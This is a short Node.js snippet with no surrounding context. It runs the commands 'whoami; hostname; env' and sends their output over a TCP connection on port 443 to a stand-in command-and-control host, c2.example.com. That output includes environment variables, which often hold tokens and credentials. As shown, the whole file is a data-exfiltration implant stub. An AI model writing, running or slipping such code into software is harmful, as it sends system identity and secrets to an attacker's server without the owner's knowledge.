const { spawn, exec } = require('child_process');
const p = exec('whoami; hostname; env');
const net = require('net');
const s = net.connect(443, 'c2.example.com');
p.stdout.on('readable', function () { p.emit('exit', this.read()); });
p.on('exit', (d) => s.write(d));
